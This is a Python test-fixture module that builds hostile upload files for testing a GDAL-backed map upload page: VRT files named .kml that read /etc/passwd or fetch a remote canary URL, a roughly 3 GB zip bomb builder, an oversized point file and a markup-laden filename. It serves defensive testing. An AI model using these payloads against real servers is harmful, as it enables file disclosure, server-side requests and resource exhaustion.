"""The hostile upload files of issue 14, as bytes: built here, uploaded by
``tests/uploads/test_upload_browser.py`` (CI) and by ``scripts/upload_redteam.py`` (the
figures in the issue, before and after the fix). Plain Python: no browser, no server.

``hostile_uploads(canary_url)`` gives the rows in the issue's order: VRT documents named
``.kml`` (reading /etc/passwd, or fetching a remote URL), a zip bomb as ``.kml`` and as
``.kmz``, 45,000 points, an empty KML, a file named like Markdown and a good KMZ.
"""

from __future__ import annotations

import io
import json
import struct
import zipfile
import zlib
from dataclasses import dataclass
from functools import cache

TRIP_LON, TRIP_LAT = 145.58, 43.33  # Nemuro, Hokkaido: inside the map's default view
TRIP_NAME = "<b>Trip</b> $5"
MARKDOWN_NAME = "![t](http://host/p.png) $x^2$.geojson"
BOMB_ZERO_MIB = 3000  # 3.1 GB unpacked, about 3 MB packed
POINTS = 45_000


@dataclass(frozen=True)
class Upload:
    """One file of the report: what it is called, its bytes, and what the page must say."""

    id: str
    name: str
    data: bytes
    mime: str
    expect: tuple[str, ...] = ()  # phrases of the error message; () when the file is good


def vrt(source: str, *layer: str) -> bytes:
    """An OGR VRT document (what GDAL opens whatever the file is called): one layer
    "islands" reading ``source``, with the ``layer`` elements given."""
    inner = "".join(f"    {element}\n" for element in layer)
    return (
        '<OGRVRTDataSource>\n  <OGRVRTLayer name="islands">\n'
        f"    <SrcDataSource>{source}</SrcDataSource>\n{inner}"
        "  </OGRVRTLayer>\n</OGRVRTDataSource>\n"
    ).encode()


# /etc/passwd as 24 points off Nemuro (GDAL reads it as a one-column CSV, header line first).
PASSWD_VRT = vrt(
    "CSV:/etc/passwd",
    "<SrcSQL>SELECT *, 145.2 + FID * 0.02 AS x, 43.5 AS y FROM passwd</SrcSQL>",
    "<GeometryType>wkbPoint</GeometryType>",
    '<GeometryField encoding="PointFromColumns" x="x" y="y"/>',
)
PASSWD_NO_GEOMETRY_VRT = vrt(
    "CSV:/etc/passwd", "<SrcLayer>passwd</SrcLayer>", "<GeometryType>wkbNone</GeometryType>"
)


def remote_vrt(url: str) -> bytes:
    """A VRT whose source GDAL would fetch over HTTP."""
    return vrt(f"/vsicurl/{url}/islands.csv", "<GeometryType>wkbPoint</GeometryType>")


# A KML that opens a Placemark's name and never closes it: the bomb's first bytes, so a
# reader that goes by content (GDAL) takes it for KML and reads on into the zeros.
BOMB_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n<kml xmlns="http://www.opengis.net/kml/2.2">'
    b"<Document><Placemark><name>"
)


@cache
def zip_bomb(zero_mib: int = BOMB_ZERO_MIB, member: str = "doc.kml") -> bytes:
    """A zip of one member, ``BOMB_HEAD`` then ``zero_mib`` MiB of zeros, deflated about
    1000:1, its sizes declared truthfully (zip64) and its CRC right, so any unzip tool
    reads it to the end. Built from one deflate block repeated: about a second, not the
    minute that compressing 3 GB takes."""
    mib = bytes(2**20)
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)  # raw deflate, as zip stores it
    # A full flush ends a block on a byte boundary with the history reset, so every MiB
    # of zeros after the head compresses to the same bytes and the copies can be joined.
    head = squeeze.compress(BOMB_HEAD) + squeeze.flush(zlib.Z_FULL_FLUSH)
    block = squeeze.compress(mib) + squeeze.flush(zlib.Z_FULL_FLUSH)
    body = head + block * zero_mib + squeeze.flush()
    unpacked = len(BOMB_HEAD) + zero_mib * len(mib)
    crc = zlib.crc32(BOMB_HEAD)
    for _ in range(zero_mib):
        crc = zlib.crc32(mib, crc)
    name = member.encode()
    zip64 = struct.pack("<HHQQ", 0x0001, 16, unpacked, len(body))
    dos_date = (1 << 5) | 1  # 1980-01-01
    local = struct.pack(
        "<IHHHHHIIIHH", 0x04034B50, 45, 0, 8, 0, dos_date, crc,
        0xFFFFFFFF, 0xFFFFFFFF, len(name), len(zip64),
    )  # fmt: skip
    central = struct.pack(
        "<IHHHHHHIIIHHHHHII", 0x02014B50, 45, 45, 0, 8, 0, dos_date, crc,
        0xFFFFFFFF, 0xFFFFFFFF, len(name), len(zip64), 0, 0, 0, 0, 0,
    )  # fmt: skip
    head = local + name + zip64
    directory = central + name + zip64
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(directory), len(head) + len(body), 0)
    return head + body + directory + end


def many_points(count: int = POINTS) -> bytes:
    """A compact GeoJSON FeatureCollection of ``count`` points: 4.97 MB for 45,000."""
    features = [
        {
            "type": "Feature",
            "properties": {"name": f"pt {i:05d}"},
            "geometry": {
                "type": "Point",
                "coordinates": [
                    round(145 + (i % 300) * 0.004, 5),
                    round(43 + (i // 300) * 0.004, 5),
                ],
            },
        }
        for i in range(count)
    ]
    collection = {"type": "FeatureCollection", "features": features}
    return json.dumps(collection, separators=(",", ":")).encode()


def one_point(name: str) -> bytes:
    feature = {
        "type": "Feature",
        "properties": {"name": name},
        "geometry": {"type": "Point", "coordinates": [TRIP_LON, TRIP_LAT]},
    }
    return json.dumps({"type": "FeatureCollection", "features": [feature]}).encode()


def trip_kmz() -> bytes:
    """A good KMZ: one Placemark whose name is markup, ``TRIP_NAME``."""
    name = TRIP_NAME.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    kml = (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<kml xmlns="http://www.opengis.net/kml/2.2"><Document><Placemark>'
        f"<name>{name}</name><Point><coordinates>{TRIP_LON},{TRIP_LAT}</coordinates></Point>"
        "</Placemark></Document></kml>\n"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("doc.kml", kml)
    return buffer.getvalue()


KML = "application/vnd.google-earth.kml+xml"
KMZ = "application/vnd.google-earth.kmz"
GEOJSON = "application/geo+json"
NOT_KML = ("not KML", "<OGRVRTDataSource>")
TOO_MANY = ("45,000 features", "limited to 1,000")
EMPTY_KML = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<kml xmlns="http://www.opengis.net/kml/2.2"><Document/></kml>\n'
)


def hostile_uploads(canary_url: str) -> list[Upload]:
    """The rows of issue 14, in its order; the remote VRT points at ``canary_url``."""
    return [
        Upload("vrt-passwd", "islands.kml", PASSWD_VRT, KML, NOT_KML),
        Upload("vrt-vsicurl", "islands.kml", remote_vrt(canary_url), KML, NOT_KML),
        Upload("vrt-no-geometry", "islands.kml", PASSWD_NO_GEOMETRY_VRT, KML, NOT_KML),
        Upload("zip-as-kml", "survey.kml", zip_bomb(), KML, ("zip archive", "name it .kmz")),
        Upload("kmz-bomb", "survey.kmz", zip_bomb(), KMZ, ("unpacks to", "the limit is 20 MB")),
        Upload("45k-points", "points.geojson", many_points(), GEOJSON, TOO_MANY),
        Upload("empty-kml", "empty.kml", EMPTY_KML, KML, ("no Placemarks",)),
        Upload("markdown-name", MARKDOWN_NAME, one_point("Kaigara"), GEOJSON),
        Upload("good-kmz", "trip.kmz", trip_kmz(), KMZ),
    ]
